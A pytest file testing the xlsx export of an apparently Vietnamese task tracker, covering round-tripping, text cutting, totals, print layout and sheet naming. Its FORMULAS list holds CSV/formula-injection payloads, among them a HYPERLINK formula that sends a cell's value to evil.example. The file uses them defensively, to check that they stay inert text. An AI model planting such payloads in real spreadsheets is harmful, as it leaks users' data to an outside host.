import io
import zipfile
from datetime import UTC, date, datetime

import pytest

from tests.sheets.building import cells, texts
from tracker.rules.faults import Fault, Refused
from tracker.rules.grids import CellKind
from tracker.sheets import writing
from tracker.sheets.child import read
from tracker.sheets.writing import Column, ColumnKind, sheet_name, write_sheet

CREATED = datetime(2023, 11, 21, 1, 0, tzinfo=UTC)
TEXT = (Column("Nhiệm vụ"),)
FORMULAS = ["=1+1", "+1", "-1", "@SUM(1)", '=HYPERLINK("https://evil.example?"&A1,"x")', "＝1+1"]


def written(rows, columns=TEXT, **changes):
    return write_sheet(columns, rows, **{"name": "Nhiệm vụ", "created": CREATED} | changes)


def part(data, name):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name).decode()


def test_what_is_written_reads_back_the_same():
    columns = (
        Column("Mã"),
        Column("Hạn", ColumnKind.DAY),
        Column("Số ngày", ColumnKind.WHOLE),
        Column("Tỷ lệ", ColumnKind.DECIMAL),
    )
    rows = [
        ["00123", date(2023, 11, 4), 3, 70.08],
        ["Sở A\nSở B", None, None, 1390],
        ["", date(1899, 1, 1), 0, None],
    ]
    (grid,) = read(written(rows, columns), "nhiem-vu.xlsx").grids
    assert (grid.name, grid.first_row) == ("Nhiệm vụ", 1)
    assert [[cell.text for cell in row] for row in grid.rows] == [
        ["Mã", "Hạn", "Số ngày", "Tỷ lệ"],
        ["00123", "04/11/2023", "3", "70,08"],
        ["Sở A\nSở B", "", "", "1390"],
        ["", "01/01/1899", "0", ""],
    ]
    assert grid.rows[1][1].day == date(2023, 11, 4)
    assert grid.rows[1][2].kind is CellKind.NUMBER


@pytest.mark.parametrize("text", FORMULAS)
def test_what_looks_like_a_formula_stays_text(text):
    data = written([[text]])
    assert cells(data)[1].text == text
    sheet = part(data, "xl/worksheets/sheet1.xml")
    assert "<f>" not in sheet
    assert "hyperlink" not in part(data, "[Content_Types].xml") + sheet.replace("HYPERLINK", "")


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("a\x0bb\x00", "ab"),
        ("a" * 40_000, "a" * 32_766 + "…"),
        ("_x000D_", "_x000D_"),
        ('a;b,"c"\nd', 'a;b,"c"\nd'),
        ("<b>Sở</b> & 'Ban'", "<b>Sở</b> & 'Ban'"),
    ],
)
def test_hard_texts_come_out_whole_or_visibly_cut(text, kept):
    assert texts(written([[text]])) == [["Nhiệm vụ"], [kept]]


def test_a_title_stands_above_the_headings_only_if_asked_for():
    assert texts(written([["x"]], title="Danh sách")) == [["Danh sách"], [""], ["Nhiệm vụ"], ["x"]]


def test_counts_are_added_up_below_and_the_asked_day_stands_above():
    columns = (
        Column("Đơn vị"),
        Column("Đúng hạn", ColumnKind.COUNT),
        Column("Tỷ lệ", ColumnKind.SHARE),
    )
    rows = [["Sở A", 1390, 0.7308], ["Sở B", 2, None]]
    data = written(rows, columns, title="Bảng", note="Tính đến 21/11/2023", total="Tổng cộng")
    assert texts(data)[0:2] == [["Bảng", "", ""], ["Tính đến 21/11/2023", "", ""]]
    assert texts(data)[-1] == ["Tổng cộng", "1392", ""]
    sheet = part(data, "xl/worksheets/sheet1.xml")
    assert "<f>SUBTOTAL(109,B5:B6)</f><v>1392</v>" in sheet
    assert '<autoFilter ref="A4:C6"/>' in sheet  # the sum is sorted and filtered by nothing
    looks = part(data, "xl/styles.xml")
    assert (
        all(f'formatCode="{look}"' in looks for look in ("#,##0", "0.00%"))
        or 'numFmtId="3"' in looks
    )


def test_a_long_text_has_its_height_in_every_program_and_a_wide_table_larger_paper():
    sheet = part(written([["dài " * 40], ["ngắn"]]), "xl/worksheets/sheet1.xml")
    assert 'ht="54" customHeight="1"' in sheet
    assert sheet.count("customHeight") == 2  # of the head and the long row
    assert 'paperSize="9" fitToHeight="0" orientation="landscape"' in sheet
    wide = written([["dài " * 40] * 6], TEXT * 6)
    assert 'paperSize="8"' in part(wide, "xl/worksheets/sheet1.xml")


def test_the_head_is_frozen_filtered_and_printed_on_each_page():
    data = written([["x"], ["y"]])
    sheet = part(data, "xl/worksheets/sheet1.xml")
    assert '<pane xSplit="1" ySplit="1"' in sheet
    assert '<autoFilter ref="A1:A3"/>' in sheet
    assert "Print_Titles" in part(data, "xl/workbook.xml")


def test_a_file_tells_nothing_of_the_machine_and_is_the_same_each_time():
    data = written([["x"]])
    assert data == written([["x"]])
    properties = part(data, "docProps/core.xml")
    assert "2023-11-21T01:00:00Z" in properties
    assert "<dc:creator>Đôn Đốc</dc:creator>" in properties


def test_more_rows_than_a_file_holds_are_refused(monkeypatch):
    monkeypatch.setattr(writing, "MOST_ROWS_OUT", 2)
    assert len(texts(written([["x"]] * 2))) == 3
    with pytest.raises(Refused) as refused:
        written([["x"]] * 3)
    assert refused.value.fault is Fault.EXPORT_TOO_LONG


def test_a_name_excel_keeps_for_itself_is_changed():
    assert sheet_name("History") == "History_"


@pytest.mark.parametrize("name", ["", "'", "a" * 40, "[]:*?/\\", "History", "a'b"])
def test_every_name_makes_a_sheet(name):
    assert len(sheet_name(name)) <= 31
    assert texts(written([["x"]], name=name))


def test_an_empty_list_is_its_headings():
    assert texts(written([])) == [["Nhiệm vụ"]]
